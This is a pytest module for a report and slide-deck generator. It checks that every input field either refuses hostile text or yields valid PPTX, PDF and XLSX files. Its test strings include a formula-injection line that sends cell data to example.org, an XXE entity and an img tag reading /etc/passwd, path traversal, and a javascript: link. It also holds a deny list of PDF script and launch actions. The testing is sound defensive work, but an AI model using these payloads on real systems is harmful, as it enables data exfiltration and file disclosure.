"""P5, P7: whatever an author writes into a field, it is refused by name or stands in two valid files.

The fields are those of the models, so that a new kind of section, chart or annotation is tried as soon as its example
is there. `THOROUGH` set: every text in every field, in some minutes; otherwise each field has two of them.
"""

from __future__ import annotations

import copy
import io
import os
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path
from types import UnionType
from typing import Annotated, Any, Union, get_args, get_origin

import pikepdf
import pytest
from lxml import etree
from openpyxl import load_workbook
from pydantic import BaseModel
from ruamel.yaml import YAML
from tests.deck_outline import deck_outline
from tests.reference import squeezed
from tests.report_outline import report_outline

from briefgen import Brief, InputError, Problem, characters
from briefgen.charts import KINDS as CHARTS
from briefgen.errors import Place, spell
from briefgen.sections import KINDS as SECTIONS
from briefgen.sections import load_kind

ROOT = Path(__file__).parents[2]
FOLDERS = (ROOT / "tests" / "promises" / "everywhere", ROOT / "docs" / "gallery")

REFUSED = {
    "zero": "a\x00b",
    "bell": "a\x07b",
    "vertical tab": "a\x0bb",
    "escape": "\x1b[31ma",
    "delete": "a\x7fb",
    "C1": "a\x9bb",
    "half a pair": "a\ud83d",
    "no character": "a\ufffeb",
    "the last no character": "a\U0010ffffb",
    "override": "a\u202eb",
    "isolate": "a\u2067b\u2069",
}
"""What no file can hold."""

TRIED = {
    "formula": "=1+1",
    "formula that fetches": '=WEBSERVICE("http://example.org/?"&A1)',
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(A1)",
    "markup": "<b>a</b> <a:t/>",
    "paragraph markup": "</para><img src='file:///etc/passwd'/>",
    "entity": "&amp; &#x0; &nbsp; &",
    "quotes": 'it\'s "so" \' " «so»',
    "end of CDATA": "a ]]> b",
    "comment": "<!-- a --> -- <![CDATA[",
    "instruction": "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
    "braces": "}} a {b}",
    "open reference": "{{",
    "reference": "{{ nothing }}",
    "code of a number": '0.0"&";[Red]\\-#,##0;@',
    "sheet": "[1]Sheet!A1 a/b\\c?*:",
    "emphasis": "a*b **c _d_ [e](f) `g` # h",
    "line separator": "one\u2028two",
    "paragraph separator": "one\u2029two",
    "lines": "one\r\ntwo\n\n  three",
    "tab": "a\tb",
    "blanks": "   ",
    "nothing": "",
    "no-break space": "\u00a0",
    "no width": "\u200b\ufeff\u00ad",
    "long word": "w" * 300,
    "long text": "word " * 6_553,
    "percent": "%s %d %(a)s 100%",
    "backslash": "C:\\new\\table \\",
    "PDF": "(a) Tj ET \\051 >> endobj",
    "escape of a workbook": "_x000D_ _x0041_",
    "path": "../../etc/passwd",
    "link": "javascript:alert(1)",
    "dot": ".",
    "digits": "12345678901234567890",
}
"""What a field may hold or refuse."""

OF_A_FONT = {
    "combining": "a" + "\u0301" * 200,
    "joined pictures": "👩‍👩‍👧 a",
    "beyond the plane": "𝕏 𠀀",
    "Arabic": "مرحبا",
    "Hebrew": "שלום",
    "Chinese": "贸易增长",
}
"""What the fonts of a theme can show or not."""


def base(folder: Path) -> dict[str, Any]:
    """A definition with every kind of section and chart, its data in `folder`, every entry a mapping."""
    read = YAML(typ="safe")
    merged: dict[str, Any] = {}
    for each in FOLDERS:
        shutil.copytree(each / "data", folder / "data", dirs_exist_ok=True)
        one = read.load((each / "brief.yaml").read_text(encoding="utf-8"))
        if not merged:
            merged = one
            merged["params"] = {"place": {"default": "North", "choices": ["North", "South"], "label": "Place"}}
            merged["formats"] = {"house": {"prefix": "about ", "suffix": " in all", "decimals": 1}}
            merged["sources"]["DIARY"] |= {"publisher": "The desk", "url": "https://example.org", "note": "By hand"}
            continue
        merged["sources"] |= one["sources"]
        merged["data"] |= one["data"]
        merged["values"] |= one["values"]
        kinds = {section.get("chart", {}).get("kind") for section in merged["sections"]}
        for section in one["sections"]:
            kind = section.get("chart", {}).get("kind")
            if kind is not None and kind not in kinds:
                kinds.add(kind)
                merged["sections"].append(section)
    years = {"kind": "timeline", "data": "steps", "start": "date", "text": "text", "caption": "The works"}
    merged["sections"].append({"kind": "chart", "title": "A chart of time", "chart": years})
    there = {section["kind"] for section in merged["sections"]}
    merged["sections"] += [read.load(load_kind(kind).example) for kind in SECTIONS if kind not in there]
    for section in merged["sections"]:
        if section["kind"] == "changes":
            section["items"][0]["source"] = "LEDGER"
    brief = Brief(folder=folder, **{key: entry for key, entry in merged.items() if key != "briefgen"})
    dumped: dict[str, Any] = brief.model_dump(exclude_unset=True, by_alias=True)
    return dumped


def filled(annotation: Any, text: str) -> Any:
    """What to write into a field so that it holds a text; None where it holds none."""
    if annotation is str:
        return text
    inner = [each for each in get_args(annotation) if each is not type(None)]
    match get_origin(annotation):
        case origin if origin is Annotated:
            return filled(inner[0], text)
        case origin if origin in (Union, UnionType):
            return next((made for each in inner if (made := filled(each, text)) is not None), None)
        case origin if origin is tuple:
            return None if (made := filled(inner[0], text)) is None else [made]
        case origin if origin is dict:
            return None if (made := filled(inner[1], text)) is None else {"a": made}
    return None


def fields(held: Any, place: Place = ()) -> Iterator[tuple[Place, Any]]:
    """Every field of a model and of those inside it that may hold a text, with its annotation."""
    if isinstance(held, BaseModel):
        for name, field in type(held).model_fields.items():
            at, entry = (*place, field.alias or name), getattr(held, name)
            inside = list(fields(entry, at))
            yield from inside
            if not inside and name not in ("kind", "briefgen", "frame") and filled(field.annotation, "") is not None:
                yield at, field.annotation
    elif isinstance(held, dict):
        for key, entry in held.items():
            yield from fields(entry, (*place, key))
    elif isinstance(held, list | tuple):
        for index, entry in enumerate(held):
            yield from fields(entry, (*place, index))


def written(definition: dict[str, Any], texts: dict[Place, Any]) -> dict[str, Any]:
    """The definition with texts in some of its fields."""
    made = copy.deepcopy(definition)
    for place, text in texts.items():
        holder: Any = made
        for step in place[:-1]:
            holder = holder.setdefault(step, {}) if isinstance(holder, dict) else holder[step]
        holder[place[-1]] = text
    return made


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("fields")


@pytest.fixture(scope="module")
def definition(folder: Path) -> dict[str, Any]:
    return base(folder)


@pytest.fixture(scope="module")
def every(definition: dict[str, Any], folder: Path) -> list[tuple[Place, Any]]:
    return list(fields(Brief(folder=folder, **definition)))


def test_every_kind_is_there_and_its_fields_are_found(definition: dict[str, Any], every: list[Any]) -> None:
    sections = definition["sections"]
    assert {section["kind"] for section in sections} == set(SECTIONS)
    assert {section["chart"]["kind"] for section in sections if "chart" in section} >= set(CHARTS)
    assert len(every) > 1_000
    names = {place[-1] for place, _ in every}
    assert names >= {"title", "message", "caption", "alt", "label", "unit", "text", "prefix", "keywords", "qualifier"}


@pytest.mark.parametrize("text", REFUSED.values(), ids=REFUSED)
def test_what_no_file_can_hold_is_refused_with_the_name_of_its_field(
    text: str, definition: dict[str, Any], every: list[tuple[Place, Any]], folder: Path
) -> None:
    texts = {place: filled(annotation, text) for place, annotation in every}
    texts = {place: entry for place, entry in texts.items() if len(place) > 1 or place[-1] != "sections"}
    with pytest.raises(InputError) as caught:
        Brief(folder=folder, **written(definition, texts))
    told = {problem.place for problem in caught.value.problems if problem.code == "bad-character"}
    silent = [place for place in texts if not any(each[: len(place)] == place for each in told)]
    named = {problem.place: problem for problem in caught.value.problems}
    silent = [place for place in silent if place not in named]
    assert not silent, [spell(place) for place in silent[:20]]


@pytest.fixture(scope="module")
def free(definition: dict[str, Any], every: list[tuple[Place, Any]], folder: Path) -> dict[Place, Any]:
    """The fields that are no references: those that may hold any word."""
    known = dict(every)
    texts = {place: filled(annotation, "Word") for place, annotation in every}
    while True:
        try:
            Brief(folder=folder, **written(definition, texts)).compose()
        except InputError as error:
            texts = _without(texts, error.problems)
        else:
            return {place: known[place] for place in texts}


def test_most_fields_are_free(free: dict[Place, Any]) -> None:
    assert len(free) > 300
    assert {place[-1] for place in free} >= {
        "title",
        "message",
        "detail",
        "notes",
        "caption",
        "alt",
        "label",
        "keywords",
    }


TURNS = range(len(TRIED)) if os.environ.get("THOROUGH") else (0, 11)


@pytest.mark.parametrize("turn", TURNS)
def test_a_text_in_every_field_is_refused_by_name_or_stands_in_valid_files(
    turn: int, definition: dict[str, Any], free: dict[Place, Any], folder: Path, tmp_path: Path
) -> None:
    strings = list(TRIED.values())
    texts: dict[Place, Any] = {}
    for index, (place, annotation) in enumerate(free.items()):
        texts[place] = filled(annotation, strings[(index + turn) % len(strings)])
    deck, report = tmp_path / "a.pptx", tmp_path / "a.pdf"
    for attempt in range(40):
        try:
            Brief(folder=folder, **written(definition, texts)).export(deck, report)
        except InputError as error:
            texts = _without(texts, error.problems, widely=attempt > 5)
        else:
            break
    assert len(texts) > 200, len(texts)
    look(deck, report)
    _shown(deck, report, texts)


def _without(texts: dict[Place, Any], problems: tuple[Problem, ...], *, widely: bool = False) -> dict[Place, Any]:
    """The texts without those that were refused; a problem that names no place is a fault of ours.

    Laying out tells one problem at a time: after some attempts all texts of a section go with one of them (`widely`).
    """
    gone: set[Place] = set()
    for problem in problems:
        assert problem.place or problem.file, str(problem)
        assert problem.message
        at = problem.place
        exact = [place for place in texts if place[: len(at)] == at or at[: len(place)] == place]
        around = [place for place in texts if place[:2] == at[:2]]
        outside = [place for place in texts if place[0] != "sections"]
        gone.update((around if widely else exact) or around or outside)
        assert exact or around or outside, str(problem)
    return {place: text for place, text in texts.items() if place not in gone}


def _shown(deck: Path, report: Path, texts: dict[Place, Any]) -> None:
    """Titles of sections are in both files as they were written, made plain."""
    in_deck, in_report = squeezed(deck_outline(deck)), squeezed(report_outline(report))
    for place, text in texts.items():
        if place[0] == "sections" and place[2:] == ("title",) and not set(text) & set("*[]{}"):
            title = squeezed(characters.line(text).translate({0xAD: None, 0x200B: None}))
            assert title in in_deck, (spell(place), title)
            assert title in in_report, (spell(place), title)


def look(deck: Path, report: Path) -> None:
    """Every part is XML, no text is a formula, and the report opens with all of its pages."""
    with zipfile.ZipFile(deck) as package:
        for name in package.namelist():
            if name.endswith((".xml", ".rels")):
                etree.fromstring(package.read(name))
            if name.endswith(".xlsx"):
                _look_at_workbook(package.read(name))
    with pikepdf.open(report) as pages:
        assert not pages.check_pdf_syntax()
        for obj in pages.objects:
            if isinstance(obj, pikepdf.Dictionary) and "/URI" in obj:
                assert str(obj["/URI"]).startswith(("http://", "https://", "mailto:"))
            if isinstance(obj, pikepdf.Dictionary):
                assert not {"/JS", "/JavaScript", "/Launch", "/OpenAction"} & set(obj.keys())


def _look_at_workbook(raw: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        for name in package.namelist():
            etree.fromstring(package.read(name))
    sheet = load_workbook(io.BytesIO(raw)).active
    for cell in (*sheet["A"], *sheet[1]):
        assert cell.data_type in ("s", "inlineStr", "n"), (cell.coordinate, cell.value)
        assert cell.data_type != "n" or cell.value is None, (cell.coordinate, cell.value)


@pytest.mark.parametrize("text", OF_A_FONT.values(), ids=OF_A_FONT)
def test_what_a_font_cannot_show_is_refused_where_it_stands(text: str, folder: Path, tmp_path: Path) -> None:
    rows = [{"name": f"A{text}", "n": 1, "say": text}, {"name": "B", "n": 2, "say": "b"}]
    chart = {"kind": "column", "data": "d", "x": "name", "y": "n", "caption": text, "alt": text}
    definition = {
        "title": text,
        "keywords": [text],
        "author": text,
        "sources": {"S1": {"title": text}},
        "data": {"d": {"rows": rows, "columns": {"n": {"label": text, "unit": text}}, "source": "S1"}},
        "sections": [
            {"kind": "text", "title": f"One {text}", "message": text, "detail": text, "notes": text},
            {"kind": "chart", "title": "Two", "chart": chart},
            {"kind": "table", "title": "Three", "table": {"data": "d", "stub": "name"}},
        ],
    }
    try:
        Brief(folder=folder, **definition).export(tmp_path / "a.pptx", tmp_path / "a.pdf")
    except InputError as error:
        assert {problem.code for problem in error.problems} <= {"no-glyph", "right-to-left", "joined-script"}
        assert all(problem.place and problem.hint for problem in error.problems), str(error)
        assert not list(tmp_path.iterdir())
    else:
        look(tmp_path / "a.pptx", tmp_path / "a.pdf")
